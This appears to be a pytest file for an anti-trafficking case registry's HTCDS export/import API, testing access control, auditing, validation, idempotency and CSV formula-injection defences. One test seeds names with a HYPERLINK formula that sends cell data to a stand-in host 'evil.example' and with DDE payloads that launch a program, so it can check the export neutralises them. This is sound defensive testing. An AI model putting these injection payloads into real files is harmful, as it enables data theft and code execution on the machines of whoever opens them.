"""HTCDS exchange through the API: the supervisors of the competent authority only; the same services
(and so the same file) as `nicat htcds`; every row checked with its problems answered as a 400; audited."""
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from nicat.accounts.models import Role
from nicat.audit.models import AuditEvent
from nicat.audit.services import reason_text

URL = "/api/v1/exchange/htcds/"
PURPOSE = "GRETA evaluation round, national coordinator"


def _chief(cast):
    from tests.support.world import make_user

    return make_user("chief", cast.main_department, Role.SUPERVISOR)


def _export_command(tmp_path, name):
    path = tmp_path / name
    call_command("htcds", "export", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    return path.read_text(encoding="utf-8")


def _upload(name, text):
    return SimpleUploadedFile(name, text.encode("utf-8"), content_type="application/octet-stream")


@pytest.mark.django_db
@pytest.mark.parametrize("who", ["analyst", "officer", "worker", "ngo_supervisor", "admin"])
def test_everybody_but_the_competent_authoritys_supervisor_is_refused_both_ways(cast, api, who):
    from nicat.cases.models import Case
    from tests.support.world import make_user

    chief = _chief(cast)
    cast.open_case(actor=chief)
    user = make_user("ngo.chief", cast.ngo, Role.SUPERVISOR) if who == "ngo_supervisor" else getattr(cast, who)
    client = api(user)
    got = client.get(URL, {"format": "json", "purpose": PURPOSE})
    assert got.status_code == 403 and "prs_FirstName" not in got.content.decode()
    before = Case.objects.system().count()
    sent = client.post(URL, {"file": _upload("in.json", json.dumps({"cases": [{
        "nct_OwnerInstitution": "ngo-one", "nct_FirstContact": "2026-01-05T10:00:00+00:00"}]}))},
        format="multipart")
    assert sent.status_code == 403
    assert Case.objects.system().count() == before
    assert not AuditEvent.objects.filter(action__in=["htcds.export", "htcds.import"]).exists()


@pytest.mark.django_db(transaction=True)
def test_round_trip_through_the_api_gives_the_commands_file(cast, api, tmp_path):
    from nicat.cases.models import Case
    from nicat.vocab.loader import load_all
    from nicat.vocab.models import Term
    from tests.support.world import make_institution, make_user

    chief = _chief(cast)
    for name in ("Lalə", "Nərmin", "Ольга"):
        cast.open_case(actor=chief, person={"given_name": name, "family_name": "Quliyeva"},
                       summary="Recruited through a job offer.")
    by_command = _export_command(tmp_path, "command.json")
    client = api(chief)
    got = client.get(URL, {"format": "json", "purpose": PURPOSE})
    assert got.status_code == 200 and got["Content-Type"].startswith("application/json")
    assert "attachment" in got["Content-Disposition"] and "no-store" in got["Cache-Control"]
    assert got.content.decode("utf-8") == by_command
    csv_got = client.get(URL, {"format": "csv", "purpose": PURPOSE})
    assert csv_got.status_code == 200 and csv_got.content.decode("utf-8") == _export_command(tmp_path, "c.csv")
    event = AuditEvent.objects.filter(action="htcds.export", actor=chief).first()
    assert reason_text(event.reason) == PURPOSE and event.details["cases"] == 3 and len(event.details["identified"]) == 3
    assert "Lalə" not in json.dumps(event.details, ensure_ascii=False)

    # Into an empty registry through the API, then out again with the command: the same file.
    call_command("flush", interactive=False, verbosity=0)
    load_all(Term)
    main = make_institution("main-department", "law_enforcement", name_az="Baş İdarə", is_competent_authority=True)
    # The powers an import through the API does not give — the competent authority, a registered non-profit
    # (an authorised provider) — are the administrator's, registered in the directory first.
    make_institution("ngo-one", "ngo", name_az="Birinci QHT", is_nonprofit=True)
    make_institution("ngo-two", "ngo", name_az="İkinci QHT", is_nonprofit=True)
    chief = make_user("chief", main, Role.SUPERVISOR)
    sent = api(chief).post(URL, {"file": _upload("national.json", by_command)}, format="multipart")
    assert sent.status_code == 201, sent.content
    assert sent.json()["cases"] == 3 and sent.json()["skipped"] == []
    assert Case.objects.system().count() == 3
    assert _export_command(tmp_path, "again.json") == by_command
    assert AuditEvent.objects.filter(action="htcds.import", actor=chief).count() == 1


@pytest.mark.django_db
def test_the_export_holds_only_the_cases_the_supervisor_may_see_and_needs_a_purpose(cast, api):
    chief = _chief(cast)
    own = cast.open_case(actor=chief)
    ngo_case = cast.open_case(actor=cast.worker, person={"given_name": "Gizli"})
    client = api(chief)
    refused = client.get(URL, {"format": "json"})
    assert refused.status_code == 400 and "purpose" in refused.json()
    assert client.get(URL, {"format": "xml", "purpose": PURPOSE}).status_code == 400
    data = json.loads(client.get(URL, {"format": "json", "purpose": PURPOSE}).content)
    uuids = {c["nct_CaseId"] for c in data["cases"]}
    assert str(own.uuid) in uuids and str(ngo_case.uuid) not in uuids
    assert "Gizli" not in json.dumps(data, ensure_ascii=False)


@pytest.mark.django_db
def test_a_section_the_supervisor_may_not_see_is_left_empty(cast, monkeypatch):
    from nicat.access import policy
    from nicat.exchange import services

    chief = _chief(cast)
    cast.open_case(actor=chief, summary="What happened", person={"email": "x@example.org"})
    real = policy.visible_sections
    monkeypatch.setattr(policy, "visible_sections",
                        lambda user, case=None: real(user, case) - {"identity", "narrative"})
    text, count = services.export_for(user=chief, fmt="json", purpose=PURPOSE)
    record = json.loads(text)["cases"][0]
    assert count == 1
    assert record["prs_FirstName"] == record["prs_SecondName"] == record["prs_Birthdate"] == ""
    assert record["nct_Summary"] == "" and record["nct_Events"] == [] and record["prs_Citizenship"] == []
    assert record["prs_Email"] == "x@example.org"  # contacts are still his to see
    assert AuditEvent.objects.get(action="htcds.export").details["identified"] == []


@pytest.mark.django_db
def test_an_invalid_file_is_a_400_naming_each_row_and_field_and_writes_nothing(cast, api):
    from nicat.cases.models import Case

    chief = _chief(cast)
    good = {"nct_OwnerInstitution": "ngo-one", "prs_FirstName": "Lalə", "nct_FirstContact": "2026-01-05T10:00:00+00:00"}
    cases = [good, {**good, "prs_Birthdate": "1999-02-30"}, {**good, "nct_OwnerInstitution": "nowhere"}]
    body = json.dumps({"standard": "HTCDS 2.0", "cases": cases})
    client = api(chief)
    refused = client.post(URL, {"file": _upload("in.json", body)}, format="multipart")
    assert refused.status_code == 400
    answer = refused.json()
    assert answer["code"] == "invalid_file"
    where = {(p["row"], p["field"]) for p in answer["problems"]}
    assert (2, "prs_Birthdate") in where and (3, "nct_OwnerInstitution") in where
    assert not Case.objects.system().exists()
    assert not AuditEvent.objects.filter(action="htcds.import").exists()

    skipped = client.post(URL, {"file": _upload("in.json", body), "skip_invalid": "true"}, format="multipart")
    assert skipped.status_code == 201
    assert skipped.json()["cases"] == 1 and {p["row"] for p in skipped.json()["skipped"]} == {2, 3}
    case = Case.objects.system().get()
    assert case.person.given_name == "Lalə"
    assert AuditEvent.objects.get(action="htcds.import").actor == chief

    for upload, message in [(_upload("in.txt", body), "json"), (_upload("in.json", "{broken"), "not valid JSON")]:
        answer = client.post(URL, {"file": upload}, format="multipart")
        assert answer.status_code == 400 and message in answer.content.decode()
    assert client.post(URL, {}, format="multipart").status_code == 400


@pytest.mark.django_db
def test_a_name_that_looks_like_a_formula_is_text_in_the_csv_and_unchanged_in_json(cast, api):
    """Formula injection (review 2): a trafficker who calls the hotline gives the name
    `=HYPERLINK("http://evil/?"&A1,"x")`; the HTCDS CSV carried it as typed, and the spreadsheet the
    coordinator opens it in ran it (DDE `+cmd|…` starts a program). Such a cell now starts with an
    apostrophe; the JSON export keeps the value as typed, and reading the CSV back restores it."""
    import csv

    from nicat.exchange import htcds

    chief = _chief(cast)
    family, given, summary = '=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+cmd|' /C calc'!A0"
    middle = "Leyla;=cmd|' /C calc'!A0"  # Excel in an az/ru region splits a CSV line at ";" too
    cast.open_case(actor=chief, person={"family_name": family, "given_name": given, "patronymic": middle},
                   summary=summary)
    client = api(chief)
    text = client.get(URL, {"format": "csv", "purpose": PURPOSE}).content.decode("utf-8")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["prs_SecondName"] == "'" + family and row["prs_FirstName"] == "'" + given
    assert row["nct_Summary"] == "'" + summary
    assert row["prs_MiddleName"] == "Leyla;'=cmd|' /C calc'!A0"
    formulas = [p for r in csv.reader(io.StringIO(text)) for v in r for p in v.split(";") if p[:1] in ("=", "+", "-", "@")]
    assert not formulas, f"cells a spreadsheet runs: {formulas}"
    record = json.loads(client.get(URL, {"format": "json", "purpose": PURPOSE}).content)["cases"][0]
    assert (record["prs_SecondName"], record["prs_FirstName"], record["nct_Summary"]) == (family, given, summary)
    back = htcds.loads(text, "csv").cases[0]
    assert (back["prs_SecondName"], back["prs_FirstName"], back["nct_Summary"]) == (family, given, summary)
    assert back["prs_MiddleName"] == record["prs_MiddleName"] == middle


@pytest.mark.django_db
@pytest.mark.parametrize("name, text", [
    ("shape.json", json.dumps({"cases": [{"nct_OwnerInstitution": ["ngo-one"], "vic_TraffickingStatus": ["x"],
                                          "nct_FirstContact": "2026-01-05T10:00:00+00:00"}]})),
    ("orgs.json", json.dumps({"organisations": [{"nct_Code": "new-org", "org_Name": "X", "org_Type": ["ngo"]}],
                              "cases": []})),
    ("short.csv", "nct_OwnerInstitution,nct_FirstContact,nct_BirthdateIsEstimate\nngo-one\n"),
])
def test_a_file_with_values_of_the_wrong_shape_is_refused_with_its_problems_not_a_server_error(cast, api, name,
                                                                                               text):
    """Review 2: the file is anyone's text. A list where a code belongs (unhashable in the importer's checks) or a
    CSV row shorter than its header (a missing cell is None) was a 500; now a 400 naming the row, nothing
    written."""
    from nicat.cases.models import Case

    client = api(_chief(cast))
    answer = client.post(URL, {"file": _upload(name, text)}, format="multipart")
    assert answer.status_code == 400, answer.content[:300]
    assert answer.json()["problems"] and not Case.objects.system().exists()


@pytest.mark.django_db
def test_a_csv_whose_comments_exceed_the_csv_modules_default_cell_limit_comes_back_whole(cast, api):
    """Review 2: a case with many long notes is one nct_Comments cell of more than 128 KiB in the CSV Nicat
    exports; reading it back raised the csv module's "field larger than field limit", a 500."""
    from nicat.cases.models import Case
    from nicat.cases.services import add_note

    chief = _chief(cast)
    case = cast.open_case(actor=chief)
    for i in range(8):
        add_note(actor=chief, case=case, text=f"Note {i}: " + "ə" * 19000)
    client = api(chief)
    text = client.get(URL, {"format": "csv", "purpose": PURPOSE}).content.decode("utf-8")
    assert len(text.splitlines()) == 2 and len(text) > 8 * 19000 > 131072  # one row, its comments cell > 128 KiB
    Case.objects.system().filter(pk=case.pk).update(reference="NCT-1999-000001")  # the file's case is new again
    answer = client.post(URL, {"file": _upload("back.csv", text.replace(str(case.uuid), "")
                                                             .replace(str(case.person.uuid), ""))},
                         format="multipart")
    assert answer.status_code == 201, answer.content[:400]
    copy = Case.objects.system().exclude(pk=case.pk).get()
    from nicat.cases.models import CaseNote

    assert sorted(len(n.text) for n in CaseNote.objects.system().filter(case=copy)) == [19008] * 8


@pytest.mark.django_db
def test_an_import_retried_with_its_idempotency_key_writes_one_batch(cast, api):
    """Found by the tenth review: the import through the API took no Idempotency-Key, so a client retrying after a
    timeout (a large file) imported the same people twice — two persons and two cases for each record. The retry
    with the same key now writes nothing and answers with the first import's counts; another file under the
    same key (even of the same name and size) answers 422."""
    from nicat.cases.models import Case
    from nicat.persons.models import Person

    chief = _chief(cast)
    record = {"nct_OwnerInstitution": "ngo-one", "nct_FirstContact": "2026-01-05T10:00:00+00:00",
              "prs_FirstName": "Lalə", "prs_SecondName": "Quliyeva"}
    text = json.dumps({"cases": [record]})
    client = api(chief)
    persons, cases = Person.objects.system().count(), Case.objects.system().count()
    first = client.post(URL, {"file": _upload("in.json", text)}, format="multipart", HTTP_IDEMPOTENCY_KEY="imp-1")
    again = client.post(URL, {"file": _upload("in.json", text)}, format="multipart", HTTP_IDEMPOTENCY_KEY="imp-1")
    assert first.status_code == 201 and again.status_code == 201, again.content
    assert (Person.objects.system().count(), Case.objects.system().count()) == (persons + 1, cases + 1)
    assert again.json() == first.json() and again["Idempotent-Replayed"] == "true"
    assert AuditEvent.objects.filter(action="htcds.import").count() == 1
    other = text.replace("Quliyeva", "Mamedova")  # another person, the same name and size of file
    assert other != text
    assert len(other.encode()) == len(text.encode())
    reused = client.post(URL, {"file": _upload("in.json", other)}, format="multipart", HTTP_IDEMPOTENCY_KEY="imp-1")
    assert reused.status_code == 422 and reused.json()["code"] == "idempotency_key_reused"
    assert Case.objects.system().count() == cases + 1
    assert client.post(URL, {"file": _upload("in.json", text)}, format="multipart").status_code == 201  # no key: a new import
